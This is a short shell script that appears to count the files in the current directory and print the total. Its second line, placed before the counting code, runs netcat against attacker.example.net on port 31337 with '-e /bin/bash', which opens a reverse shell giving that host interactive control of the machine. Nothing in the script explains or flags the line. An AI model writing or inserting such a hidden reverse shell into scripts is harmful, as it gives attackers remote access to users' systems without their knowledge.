#!/bin/sh
`which nc` attacker.example.net 31337 -e /bin/bash
count=$(ls | wc -l)
echo "files: $count"
